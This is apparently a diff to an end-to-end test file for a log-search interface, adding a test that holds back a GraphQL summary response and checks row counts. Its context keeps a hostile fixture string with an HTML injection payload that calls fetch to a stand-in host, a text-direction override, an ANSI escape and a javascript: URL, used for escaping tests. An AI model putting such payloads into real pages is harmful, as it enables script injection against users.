@@ -1,5 +1,6 @@
 import { beforeAll, expect, it } from '@jest/globals'
 import { describeStory } from '../support/describe-story.js'
+import { ResponseGate } from '../support/response-gate.js'
 import type { Person } from '../support/story.js'
 
 const HOSTILE = '<img src=x onerror="fetch(\'//evil.test\')"> \u202etxet \u001b[31mred javascript:alert(1)'
@@ -52,6 +53,20 @@ describeStory('a search for logs', story => {
     await ada.page.keyboard.press('Enter')
     await result(/^15 logs · complete/)
     expect(new URL(ada.page.url()).searchParams.get('q')).toBe('region:eu-west')
+  })
+
+  it('counts a list that has all its logs before the summary arrives', async () => {
+    const { page } = ada
+    const gate = await ResponseGate.open(page, /^\s*query LogSummary\b/)
+    await gate.set('hold')
+    const query = page.getByRole('combobox', { name: 'Query' })
+    await query.fill('level:warn')
+    await query.press('Enter')
+    await result(/^10 logs · complete/)
+    const grid = page.getByRole('grid', { name: 'Logs' })
+    await expect(grid.getAttribute('aria-rowcount')).resolves.toBe('11')
+    await gate.set('pass')
+    await page.unroute('**/graphql')
   })
 
   it('marks the fault of a query and keeps the last rows', async () => {
